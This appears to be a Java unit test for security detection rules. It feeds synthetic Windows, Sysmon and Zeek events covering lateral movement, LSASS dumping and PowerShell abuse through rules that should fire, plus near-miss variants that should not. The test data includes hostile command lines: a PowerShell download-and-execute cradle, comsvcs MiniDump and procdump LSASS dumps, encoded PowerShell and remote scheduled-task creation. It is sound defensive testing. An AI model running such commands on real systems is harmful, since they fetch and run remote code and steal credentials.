package dev.palimpsest.processor.extract.event;

import static org.assertj.core.api.Assertions.assertThat;

import dev.palimpsest.memory.Kind;
import dev.palimpsest.memory.claim.Claim.Statement;
import dev.palimpsest.observables.attack.Attack;
import dev.palimpsest.observables.attack.Technique;
import dev.palimpsest.processor.extract.Observations;
import dev.palimpsest.processor.extract.Observed;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

class RulesTest {

    /**
     * Rows of rule, format, fields that make it fire, and after a bar what changed fields keep it from firing. Fields
     * read name=value and are separated by semicolons.
     */
    private static final String CASES = """
            service-shell | windows; event.code=7045; host.name=ws6; service.name=Updater; service.executable=%COMSPEC% /C start /b powershell -enc A | service.executable=C:\\Windows\\System32\\svchost.exe -k netsvcs
            service-shell | windows; event.code=4697; host.name=ws6; service.name=x; service.executable=cmd.exe /c echo 1 | event.code=4624
            service-admin-share | windows; event.code=7045; host.name=ws6; service.name=a; service.executable=\\\\ws6\\ADMIN$\\svc.exe | service.executable=C:\\Program Files\\Agent\\svc.exe
            service-beacon | windows; event.code=7045; host.name=ws6; service.name=abc1234; service.executable=\\\\10.0.0.4\\ADMIN$\\abc1234.exe | service.executable=\\\\10.0.0.4\\ADMIN$\\longername.exe
            service-psexec | windows; event.code=7045; host.name=ws6; service.name=PSEXESVC; service.executable=C:\\Windows\\PSEXESVC.exe | service.name=spooler; service.executable=spoolsv.exe
            service-user-folder | windows; event.code=4697; host.name=ws6; service.name=x; service.executable=C:\\Users\\eve\\AppData\\Local\\Temp\\x.exe | service.executable=C:\\Windows\\x.exe
            rpc-service | zeek; dce_rpc.endpoint=svcctl; dce_rpc.operation=CreateServiceW; source.ip=10.120.8.21; destination.ip=10.120.8.30 | dce_rpc.operation=OpenSCManagerW
            rpc-service | suricata; dce_rpc.endpoint=svcctl; dce_rpc.operation=12; source.ip=10.120.8.21; destination.ip=10.120.8.30 | dce_rpc.operation=15
            rpc-service-smb | zeek; dce_rpc.endpoint=svcctl; dce_rpc.operation=StartServiceA; destination.port=445; source.ip=10.120.8.21; destination.ip=10.120.8.30 | destination.port=49670
            service-control-inbound | sysmon; event.code=3; host.name=ws6; process.name=services.exe; network.direction=ingress; source.ip=10.120.8.21; destination.ip=10.120.8.30 | network.direction=egress
            service-pipe | windows; event.code=5145; host.name=ws6; share.name=IPC$; pipe.name=svcctl; source.ip=10.120.8.21 | pipe.name=srvsvc
            wmi-child | sysmon; event.code=1; host.name=ws6; process.parent.name=WmiPrvSE.exe; process.name=cmd.exe | process.name=WerFault.exe
            mmc-child | sysmon; event.code=1; host.name=ws6; process.parent.name=mmc.exe; process.parent.command_line=C:\\Windows\\system32\\mmc.exe -Embedding; process.name=powershell.exe | process.parent.command_line=mmc.exe eventvwr.msc
            explorer-shell | sysmon; event.code=1; host.name=ws6; process.parent.name=explorer.exe; process.name=cmd.exe; process.command_line=cmd.exe /c %COMSPEC% /C start | process.command_line=cmd.exe
            excel-child | windows; event.code=4688; host.name=ws6; process.parent.name=excel.exe; process.parent.command_line=EXCEL.EXE /automation -Embedding; process.name=rundll32.exe | process.parent.command_line=EXCEL.EXE sales.xlsx
            dllhost-elevated | sysmon; event.code=1; host.name=ws6; process.parent.name=dllhost.exe; process.parent.command_line=DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}; process.name=cmd.exe | process.name=notepad.exe
            dllhost-child | sysmon; event.code=1; host.name=ws6; process.parent.name=dllhost.exe; process.parent.command_line=DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}; process.name=cmd.exe | process.parent.command_line=DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}
            winrm-child | sysmon; event.code=1; host.name=ws6; process.parent.name=wsmprovhost.exe; process.name=whoami.exe | process.name=conhost.exe
            iertutil-beside-browser | sysmon; event.code=7; host.name=ws6; file.path=C:\\Program Files\\Internet Explorer\\iertutil.dll | file.path=C:\\Windows\\System32\\iertutil.dll
            rpc-wmi | zeek; dce_rpc.endpoint=IWbemServices; dce_rpc.operation=ExecMethod; source.ip=10.120.8.21; destination.ip=10.120.8.30 | dce_rpc.operation=ExecQuery
            rpc-dcom | zeek; dce_rpc.endpoint=IRemoteSCMActivator; dce_rpc.operation=RemoteCreateInstance; source.ip=10.120.8.21; destination.ip=10.120.8.30 | dce_rpc.endpoint=epmapper
            lsass-read | sysmon; event.code=10; host.name=ws6; process.executable=C:\\Users\\eve\\a.exe; process.target.executable=C:\\Windows\\system32\\lsass.exe; process.granted_access=0x1410 | process.granted_access=0x1400
            lsass-read | sysmon; event.code=10; host.name=ws6; process.executable=C:\\Windows\\System32\\rundll32.exe; process.target.executable=C:\\Windows\\system32\\lsass.exe; process.granted_access=0x1fffff | process.executable=C:\\Windows\\System32\\csrss.exe
            lsass-read | sysmon; event.code=10; host.name=ws6; process.executable=C:\\temp\\a.exe; process.target.executable=C:\\Windows\\system32\\lsass.exe; process.granted_access=0x1010 | process.executable=C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18\\MsMpEng.exe
            lsass-read | windows; event.code=4656; host.name=ws6; process.executable=C:\\Users\\eve\\a.exe; process.target.executable=\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe; process.granted_access=0x1410 | process.executable=C:\\Windows\\SysWOW64\\OneDriveSetup.exe
            comsvcs-dump | sysmon; event.code=1; host.name=ws6; process.name=rundll32.exe; process.command_line=rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\o.dmp full | process.command_line=rundll32 comsvcs.dll,CoCreate
            lsass-dump-tool | windows; event.code=4688; host.name=ws6; process.name=pd.exe; process.command_line=pd.exe -accepteula -ma lsass.exe o.dmp | process.command_line=pd.exe -ma notepad.exe
            lsass-dump-file | sysmon; event.code=11; host.name=ws6; file.path=C:\\Temp\\lsass_1.DMP | file.path=C:\\Temp\\app.dmp
            kerberos-rc4 | windows; event.code=4769; host.name=dc01; source.ip=10.120.8.21; winlog.event_data.ServiceName=sqlsvc; winlog.event_data.TicketEncryptionType=0x17 | winlog.event_data.ServiceName=WS6$
            admin-share | windows; event.code=5140; host.name=ws6; share.name=ADMIN$; source.ip=10.120.8.21 | share.name=SYSVOL
            admin-share-program | windows; event.code=5145; host.name=ws6; share.name=C$; source.ip=10.120.8.21; file.name=iertutil.dll; winlog.event_data.AccessMask=0x2 | winlog.event_data.AccessMask=0x80
            smb-admin-share | zeek; share.name=ADMIN$; source.ip=10.120.8.21; destination.ip=10.120.8.30 | share.name=IPC$
            smb-program | zeek; share.name=ADMIN$; event.action=SMB::FILE_WRITE; file.name=abc.exe; source.ip=10.120.8.21; destination.ip=10.120.8.30 | event.action=SMB::FILE_OPEN
            powershell-encoded | sysmon; event.code=1; host.name=ws6; process.name=powershell.exe; process.command_line=powershell -noP -w 1 -enc SQBGACgAJABQAFMAVgBlAHIA | process.command_line=powershell -ExecutionPolicy Bypass -File C:\\scripts\\longscriptname.ps1
            powershell-download | sysmon; event.code=1; host.name=ws6; process.name=powershell.exe; process.command_line=powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a') | process.command_line=powershell Get-Date
            rundll32-bare | sysmon; event.code=1; host.name=ws6; process.name=rundll32.exe; process.command_line="C:\\Windows\\System32\\rundll32.exe" | process.command_line=rundll32.exe shell32.dll,Control_RunDLL
            schtasks-remote | sysmon; event.code=1; host.name=ws6; process.name=schtasks.exe; process.command_line=schtasks /create /s dc01 /tn a /tr b | process.command_line=schtasks /query /s dc01
            rpc-task | zeek; dce_rpc.endpoint=ITaskSchedulerService; dce_rpc.operation=SchRpcRegisterTask; source.ip=10.120.8.21; destination.ip=10.120.8.30 | dce_rpc.operation=SchRpcEnumTasks
            rpc-at-job | zeek; dce_rpc.endpoint=atsvc; dce_rpc.operation=NetrJobAdd; source.ip=10.120.8.21; destination.ip=10.120.8.30 | dce_rpc.operation=NetrJobEnum
            task-pipe | windows; event.code=5145; host.name=ws6; share.name=IPC$; winlog.event_data.RelativeTargetName=atsvc; source.ip=10.120.8.21 | winlog.event_data.RelativeTargetName=wkssvc
            task-encoded | windows; event.code=4698; host.name=ws6; winlog.event_data.TaskContent=<Exec>powershell -enc AAAA</Exec> | winlog.event_data.TaskContent=<Exec>backup.exe</Exec>
            pipe-postex | sysmon; event.code=17; host.name=ws6; pipe.name=postex_9f3e; process.executable=C:\\a.exe | pipe.name=postfix
            pipe-msagent | sysmon; event.code=18; host.name=ws6; pipe.name=\\msagent_4c; process.executable=C:\\a.exe | pipe.name=\\wkssvc
            pipe-artifact | sysmon; event.code=17; host.name=ws6; pipe.name=MSSE-1676-server; process.executable=C:\\a.exe | pipe.name=MSSE-server
            remote-thread | sysmon; event.code=8; host.name=ws6; process.name=a.exe; process.executable=C:\\Users\\eve\\a.exe; process.target.executable=C:\\Windows\\System32\\svchost.exe | process.executable=C:\\Windows\\System32\\dwm.exe; process.name=dwm.exe
            remote-thread | sysmon; event.code=8; host.name=ws6; process.name=rundll32.exe; process.executable=C:\\Windows\\System32\\rundll32.exe; process.target.executable=C:\\Windows\\explorer.exe | process.target.executable=<unknown process>
            """;

    @TestFactory
    Stream<DynamicTest> shouldFireOnTheCaseAndNotBesideIt() {
        return CASES.lines().map(line -> line.split(" \\| ", 3)).map(row -> DynamicTest
                .dynamicTest(row[0].strip() + ": " + row[2], () -> {
                    assertThat(fired(event(row[1], ""))).contains(row[0].strip());
                    assertThat(fired(event(row[1], row[2]))).doesNotContain(row[0].strip());
                }));
    }

    @Test
    void shouldHaveACaseForEveryRule() {
        List<String> covered = CASES.lines().map(line -> line.split(" \\| ", 3)[0].strip()).toList();
        assertThat(Rules.ALL).extracting(Rule::id).doesNotHaveDuplicates().allMatch(covered::contains);
    }

    @Test
    void shouldNameTechniquesInUseAndKnownSoftware() {
        assertThat(Rules.ALL).allSatisfy(rule -> {
            Technique technique = Attack.technique(rule.technique()).orElseThrow();
            assertThat(technique.status()).isEqualTo(Technique.Status.ACTIVE);
            assertThat(rule.confidence()).isBetween(0.0, 1.0);
            String threat = rule.threat();
            assertThat(threat == null || !Attack.threatsNamed(threat).isEmpty()).isTrue();
        });
    }

    private static List<String> fired(Observed observed) {
        return EventClaims.of(observed).stream().map(Statement.class::cast)
                .filter(claim -> claim.kind() == Kind.DETECTION)
                .flatMap(claim -> claim.content().plain().orElseThrow().all("rule.id").stream()).toList();
    }

    private static Observed event(String fields, String changes) {
        List<String> parts = new ArrayList<>(Arrays.asList(fields.strip().split("; ", -1)));
        String format = parts.removeFirst();
        List<String> changed = changes.isEmpty() ? List.of() : Arrays.asList(changes.strip().split("; ", -1));
        changed.forEach(change -> parts.removeIf(part -> name(part).equals(name(change))));
        parts.addAll(changed);
        return Observations.event(format, parts.stream().flatMap(part -> Stream.of(name(part), value(part)))
                .toArray(String[]::new));
    }

    private static String name(String part) {
        return part.substring(0, part.indexOf('='));
    }

    private static String value(String part) {
        return part.substring(part.indexOf('=') + 1);
    }
}
